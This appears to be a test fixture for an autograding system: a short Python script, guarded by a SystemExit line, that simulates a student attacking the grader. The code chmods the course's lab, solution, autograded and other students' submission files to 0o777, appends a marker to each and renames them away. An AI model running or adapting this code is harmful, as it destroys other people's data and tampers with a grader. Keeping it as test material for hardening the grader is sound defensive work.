"""Rewrites the release, the solutions and the other submissions; takes away what it cannot write."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
from contextlib import suppress
from pathlib import Path

course = Path(COURSE)
for pattern in ("labs/*/*", "solutions/*/*", "submitted/*/*/*", "submitted/*/*", "autograded/*/*/*", ".seed", ".mmlab/*/*"):
    for path in course.glob(pattern):
        if STUDENT in path.parts:
            continue
        with suppress(OSError):
            os.chmod(path, 0o777)
        with suppress(OSError):
            path.write_bytes(path.read_bytes() + b"\nmmlab attack")
        with suppress(OSError):
            path.rename(path.with_suffix(".gone"))
